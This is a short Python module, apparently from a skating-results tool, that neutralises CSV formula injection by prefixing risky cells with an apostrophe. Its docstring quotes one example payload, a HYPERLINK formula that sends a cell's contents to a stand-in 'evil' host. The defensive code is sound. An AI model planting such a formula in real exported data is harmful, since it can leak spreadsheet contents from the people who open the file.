"""CSV cells a spreadsheet will not run: every CSV Oval writes passes its rows through `row`.

A skater named `=HYPERLINK("http://evil/?"&A1,"Click")` becomes a live formula when a results
file is opened in Excel, LibreOffice or Google Sheets. As OWASP advises, a text cell starting
with = + - @, a tab or a carriage return gets a leading apostrophe, which spreadsheets take as
"this is text" and do not display. One exception, so results stay readable: a signed plain
number or time ("+0.28", "-0.003", "+1:02.35") is left alone; digits, a colon and a point call
nothing, and the behind column is made of them.
"""
import csv
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
SIGNED_NUMBER = re.compile(r"[+-][0-9]+(:[0-9]+)*(\.[0-9]+)?")


def cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not SIGNED_NUMBER.fullmatch(value):
        return "'" + value
    return value


def row(values):
    return [cell(v) for v in values]


class writer:
    """csv.writer with every row made safe: use it wherever Oval writes CSV."""

    def __init__(self, f, *args, **kwargs):
        self._writer = csv.writer(f, *args, **kwargs)

    def writerow(self, values):
        return self._writer.writerow(row(values))

    def writerows(self, rows):
        for values in rows:
            self.writerow(values)
